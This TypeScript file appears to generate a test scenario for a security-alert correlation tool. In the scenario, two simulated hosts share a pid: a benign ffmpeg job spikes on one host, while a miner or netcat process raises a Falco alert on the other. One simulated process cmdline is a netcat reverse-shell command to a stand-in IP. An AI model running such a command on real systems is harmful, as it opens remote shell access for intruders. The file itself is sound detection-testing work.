import { falcoAlert } from './formats';
import type { SimHost, SimProcess } from './host';
import { burst, steady } from './host';
import { MINER_RULES, MINERS } from './positives';
import type { Rng } from './rng';
import type { Builder, World } from './world';

/**
 * Pids are per host: the same pid on two hosts is two processes. A second host (its own agent, its own metrics
 * file) runs a benign job under a pid the first host's alert names.
 */

function secondHost(world: World, rng: Rng): SimHost {
  const first = world.host;
  const host: SimHost = {
    name: `${first.name}-b`,
    cpus: world.wide ? rng.pick([2, 4, 8, 16, 32, 64]) : rng.pick([2, 4, 8]),
    cpuMetric: first.cpuMetric,
    processes: [],
    containers: [],
    services: [],
    boot: first.boot - rng.between(1, 10) * 86_400_000,
  };
  const started = host.boot + 30_000;
  const ordinary: Array<[string, string, string, number]> = [
    ['sshd', '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D', 0.01],
    ['rsyslogd', '/usr/sbin/rsyslogd', '/usr/sbin/rsyslogd -n', 0.03],
    ['node', '/usr/bin/node', 'node /srv/app/server.js', 0.3],
  ];
  host.processes.push({
    pid: 1,
    ppid: 0,
    name: 'systemd',
    exe: '/usr/lib/systemd/systemd',
    cmdline: '/sbin/init',
    owner: 'root',
    start: host.boot,
    load: steady(rng, 0.003),
  });
  for (const [name, exe, cmdline, share] of ordinary) {
    host.processes.push({
      pid: world.pid(),
      ppid: 1,
      name,
      exe,
      cmdline,
      owner: 'root',
      start: started,
      load: steady(rng, share),
    });
  }
  world.extraHosts.push(host);
  return host;
}

/**
 * The alerted process (a miner that spikes, or a netcat gone before the spike) on one host, a benign ffmpeg with the
 * same pid spiking on the other. Wide: the alerted host is either of the two.
 */
export const samePidTwoHosts: Builder = (world, rng) => {
  const second = secondHost(world, rng);
  const swapped = world.wide && rng.chance(0.5);
  /** Where ffmpeg runs, and where the alerted process does. */
  const [jobHost, alertHost] = swapped ? [world.host, second] : [second, world.host];
  const pid = world.pid();
  const job: SimProcess = {
    pid,
    ppid: 1,
    name: 'ffmpeg',
    exe: '/usr/bin/ffmpeg',
    cmdline: 'ffmpeg -i /srv/in.mkv -c:v libx265 /srv/out.mkv',
    owner: 'media',
    start: world.spikeStart - 3_000,
    end: world.spikeEnd,
    load: burst(0, Math.max(1, jobHost.cpus * 0.8), world.spikeStart, world.spikeEnd),
  };
  jobHost.processes.push(job);
  const minerHere = rng.chance(0.5);
  const spec = rng.pick(MINERS);
  const suspect: SimProcess = {
    pid,
    ppid: 1,
    name: minerHere ? spec.name : 'nc',
    exe: minerHere ? `${spec.dir}/${spec.name}` : '/usr/bin/nc.openbsd',
    cmdline: minerHere ? `${spec.dir}/${spec.name} ${spec.flags}`.trim() : 'nc -e /bin/sh 203.0.113.50 4444',
    owner: 'www-data',
    start: world.spikeStart - (minerHere ? 0 : rng.between(30_000, 120_000)),
    end: minerHere ? world.spikeEnd : world.spikeStart - 20_000,
    load: minerHere
      ? burst(
          0,
          Math.max(1, Math.round(alertHost.cpus * rng.between(0.4, 1))) * 0.96,
          world.spikeStart,
          world.spikeEnd,
          5_000,
        )
      : () => 0.01,
  };
  alertHost.processes.push(suspect);
  const rule = minerHere
    ? rng.pick(MINER_RULES.slice(0, 3))
    : {
        rule: 'Netcat Remote Code Execution in Container',
        priority: 'Critical' as const,
        message: 'Netcat runs inside container',
        tags: ['network'],
      };
  const at = suspect.start + rng.between(300, 15_000);
  world.addFalco(
    at,
    falcoAlert({
      time: at,
      rule: rule.rule,
      priority: rule.priority,
      host: alertHost.name,
      process: suspect,
      withPid: true,
      message: rule.message,
      tags: [...rule.tags],
    }),
  );
  return {
    description: `pid ${pid}: ${suspect.name} on ${alertHost.name} (alerted${minerHere ? ', mining' : ''}), ffmpeg on ${jobHost.name} (spiking)`,
    expect: minerHere
      ? { correlated: true, culprit: { pid, name: suspect.name }, neverCulprit: ['ffmpeg'], anomaly: 'cpu' }
      : { correlated: false, neverCulprit: ['nc', 'ffmpeg'], anomaly: 'cpu' },
  };
};
